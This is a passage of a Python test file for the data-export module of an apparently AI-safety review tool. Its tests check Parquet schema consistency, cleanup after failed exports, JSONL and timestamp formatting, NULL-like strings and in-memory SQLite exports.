    full, empty = pq.read_schema(tmp_path / "all.parquet"), pq.read_schema(tmp_path / "none.parquet")
    assert pq.read_schema(tmp_path / "nothing.parquet").equals(pq.read_schema(tmp_path / "all.parquet"))
    assert [empty.field(n).type for n in empty.names] == [full.field(n).type for n in empty.names]
    assert full.field("item_id").type == pa.int64() and full.field("verdict.j2.joint.prob").type == pa.float64()
    assert empty.field("import_batch_id").type == pa.int64() and empty.field("refused").type == pa.bool_()
    export_annotations(engine, tmp_path / "a.parquet")
    export_annotations(engine, tmp_path / "a0.parquet", collections=["empty"])
    a, a0 = pq.read_schema(tmp_path / "a.parquet"), pq.read_schema(tmp_path / "a0.parquet")
    assert [a0.field(n).type for n in a0.names] == [a.field(n).type for n in a0.names]
    assert a0.field("time_spent_s").type == pa.float64() and a0.field("version").type == pa.int64()


def test_a_failed_export_leaves_no_file_and_no_reader_behind(
    golden: tuple[sa.Engine, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An error while reading (in the reader thread) or while writing surfaces in the
    caller, removes the temporary file and stops the reader; the database is usable and
    writable afterwards."""
    import threading

    import safereview.dataio.export as export_mod

    engine, _ = golden
    monkeypatch.setattr(export_mod, "CHUNK_ROWS", 1)
    out = tmp_path / "out"

    def broken_read(*_a: object) -> None:
        raise RuntimeError("disk on fire")

    with monkeypatch.context() as m:
        m.setattr(export_mod._Verdicts, "read", broken_read)
        with pytest.raises(RuntimeError, match="disk on fire"):
            export_items(engine, out / "i.parquet")
    calls = []

    def broken_write(self: object, table: object) -> None:
        calls.append(1)
        raise OSError("no space left")

    with monkeypatch.context() as m:
        m.setattr(export_mod._Sink, "write", broken_write)
        with pytest.raises(OSError, match="no space left"):
            export_items(engine, out / "i.csv", "csv")
    assert calls == [1]
    assert list(out.iterdir()) == []
    assert not [t for t in threading.enumerate() if t.name == "safereview-export-reader"]
    assert export_items(engine, out / "i.jsonl", "jsonl").rows == 6
    with engine.begin() as conn:  # the pooled connection writes again (no read-only snapshot left over)
        conn.execute(sa.text("UPDATE item SET priority = 9 WHERE id = 1"))
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT priority FROM item WHERE id = 1")).scalar_one() == 9


def _parts_strategy():  # type: ignore[no-untyped-def]
    from hypothesis import strategies as st

    text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)
    value = st.one_of(text, st.none(), st.integers(-3, 3))
    part = st.dictionaries(
        st.sampled_from(["modality", "text", "media", "name"]),
        st.one_of(st.sampled_from(["text", "image", "audio", "video"]), value),
        max_size=4,
    )
    usual = st.one_of(
        st.builds(lambda t: {"modality": "text", "text": t}, text),
        st.builds(lambda m, h: {"modality": m, "media": h, "name": "f.png"}, st.sampled_from(["image", "audio"]), text),
    )
    parts = st.one_of(st.none(), st.lists(st.one_of(usual, usual, part), max_size=4))
    return st.tuples(parts, st.booleans(), st.booleans()).map(
        lambda p: json.dumps(p[0], ensure_ascii=p[1], sort_keys=p[2])
    )


def test_parts_decoded_column_wise_match_the_row_by_row_rules() -> None:
    """Any chunk of prompt/response part lists (usual ones, and parts without text, media or
    modality, JSON null, numbers, unicode, line breaks; keys in any order, escaped or not)
    gives the texts and media of the row-by-row rules, or fails as they do."""
    import pyarrow as pa
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from safereview.dataio import export as export_mod

    def reference(chunk: list[tuple[str, str]]) -> list[list[str]]:
        out: list[list[str]] = [[], [], [], []]
        for p_json, r_json in chunk:
            p, r = json.loads(p_json or "[]"), json.loads(r_json or "[]")
            for i, value in enumerate(
                (
                    export_mod._parts_text(p),
                    export_mod._parts_media(p),
                    export_mod._parts_text(r),
                    export_mod._parts_media(r),
                )
            ):
                out[i].append(value)
        return out

    @settings(max_examples=300, deadline=None)
    @given(st.lists(st.tuples(_parts_strategy(), _parts_strategy()), min_size=1, max_size=6))
    def check(chunk: list[tuple[str, str]]) -> None:
        prompts, responses = [p for p, _ in chunk], [r for _, r in chunk]
        try:
            want = reference(chunk)
        except Exception as exc:
            with pytest.raises(type(exc)):
                export_mod._item_parts(pa.array(prompts), pa.array(responses), lambda: (prompts, responses))
            return
        got = export_mod._item_parts(pa.array(prompts), pa.array(responses), lambda: (prompts, responses))
        assert [c.to_pylist() for c in got] == want
        assert all(c.type == pa.string() for c in got)

    check()


def test_jsonl_lines_are_what_the_json_encoder_writes() -> None:
    """Column-wise JSON lines equal ``JSONEncoder(ensure_ascii=False).encode(row)`` per row
    (with the line separators escaped) for text, integers, floats (NaN, infinities, -0.0,
    1e16), booleans and missing values."""
    import pyarrow as pa
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from safereview.dataio import export as export_mod
    from safereview.dataio.spreadsheet import escape_line_breaks

    text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=8)
    columns = {
        "s": (pa.string(), st.one_of(st.none(), text, st.sampled_from(["", "\u2028", "a\u0085b", '"\\']))),
        "i": (pa.int64(), st.one_of(st.none(), st.integers(-(2**63), 2**63 - 1))),
        "f": (pa.float64(), st.one_of(st.none(), st.floats(), st.sampled_from([0.0, -0.0, 1e16, 0.1, 1.0]))),
        "b": (pa.bool_(), st.one_of(st.none(), st.booleans())),
        "ü\u2028": (pa.string(), st.none()),
    }

    @settings(max_examples=200, deadline=None)
    @given(st.lists(st.tuples(*(s for _, s in columns.values())), min_size=1, max_size=8))
    def check(rows: list[tuple]) -> None:
        names = list(columns)
        table = pa.table({n: pa.array([r[i] for r in rows], t) for i, (n, (t, _)) in enumerate(columns.items())})
        encode = json.JSONEncoder(ensure_ascii=False).encode
        want = "".join(escape_line_breaks(encode(dict(zip(names, r, strict=True)))) + "\n" for r in rows)
        assert export_mod._jsonl_lines(table).to_pybytes() == want.encode()

    check()


def test_times_read_as_epoch_microseconds_print_as_isoformat() -> None:
    """PostgreSQL's times arrive as microseconds since the epoch; the Arrow formatting writes
    exactly ``isoformat()`` of the aware UTC time (microseconds only when not zero), also
    before 1970, and keeps NULL."""
    import random
    from datetime import timedelta

    import pyarrow as pa

    from safereview.dataio.export import _iso_from_micros

    rng = random.Random(7)
    epoch = datetime(1970, 1, 1, tzinfo=UTC)
    times = [
        datetime(
            rng.randint(1900, 2200),
            rng.randint(1, 12),
            rng.randint(1, 28),
            rng.randint(0, 23),
            rng.randint(0, 59),
            rng.randint(0, 59),
            rng.choice([0, 5, 100_000, rng.randint(0, 999_999)]),
            tzinfo=UTC,
        )
        for _ in range(5000)
    ]
    micros = pa.array([(t - epoch) // timedelta(microseconds=1) for t in times] + [None], pa.int64())
    assert _iso_from_micros(micros).to_pylist() == [t.isoformat() for t in times] + [None]


def test_texts_that_look_like_null_stay_text(engine: sa.Engine, tmp_path: Path) -> None:
    """Values that CSV readers often take for NULL ("NA", "null", "N/A", "NaN", "nan") come
    out as themselves in both exports; on PostgreSQL they cross COPY's CSV unquoted."""
    import json

    looks_null = ["NA", "null", "N/A", "NaN", "nan", "NULL", "#N/A", "None"]
    rows = [
        {
            "id": text,
            "model": text,
            "prompt": text,
            "annotations": [{"annotator": "amy", "labels": {"joint": "safe"}, "rationale": text}],
        }
        for text in looks_null
    ]
    f = ds.write_jsonl(tmp_path / "n.jsonl", rows)
    assert import_file(engine, f, collection="n", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM).ok
    export_items(engine, tmp_path / "i.jsonl", "jsonl", collections=["n"])
    export_annotations(engine, tmp_path / "a.jsonl", "jsonl", collections=["n"])
    items = [json.loads(line) for line in (tmp_path / "i.jsonl").read_text().splitlines()]
    anns = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text().splitlines()]
    assert [(r["external_id"], r["model"], r["prompt_text"]) for r in items] == [(t, t, t) for t in looks_null]
    assert sorted(r["rationale"] for r in anns) == sorted(looks_null)
    assert {r["external_id"] for r in anns} == set(looks_null)


def test_an_in_memory_sqlite_database_exports_through_the_sqlite3_cursor(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A SQLite database in memory has no file for ADBC: it is read through the ``sqlite3``
    cursor, in one transaction (the schema revision too: a second connection could not
    begin one), and writes the golden bytes."""
    from sqlmodel import SQLModel

    import safereview.dataio.export as export_mod
    from safereview.db.engine import make_engine

    engine = make_engine("sqlite://")
    SQLModel.metadata.create_all(engine)
    with engine.begin() as conn:
        conn.execute(sa.text("CREATE TABLE alembic_version (version_num VARCHAR(32) NOT NULL)"))
        conn.execute(sa.text("INSERT INTO alembic_version VALUES ('memory-rev')"))
    golden_db(engine)
    calls = []
    arrow_table = export_mod._Reader._arrow_table
    monkeypatch.setattr(export_mod._Reader, "_arrow_table", lambda self, *a: calls.append(1) or arrow_table(self, *a))
    for stem, (fn, collections) in GOLDEN_EXPORTS.items():
        res = fn(engine, tmp_path / f"{stem}.jsonl", "jsonl", collections=collections)
        lines = (tmp_path / f"{stem}.jsonl").read_text().splitlines()
        assert res.rows == len(lines)
        assert all(json.loads(line)["schema_revision"] == "memory-rev" for line in lines)
    assert not calls
    monkeypatch.setattr(export_mod, "_provenance", lambda _reader: dict(GOLDEN_PROVENANCE))
    for stem, (fn, collections) in GOLDEN_EXPORTS.items():
        fn(engine, tmp_path / f"{stem}.jsonl", "jsonl", collections=collections)
        assert (tmp_path / f"{stem}.jsonl").read_bytes() == (GOLDEN_DIR / "sqlite" / f"{stem}.jsonl").read_bytes()
    engine.dispose()
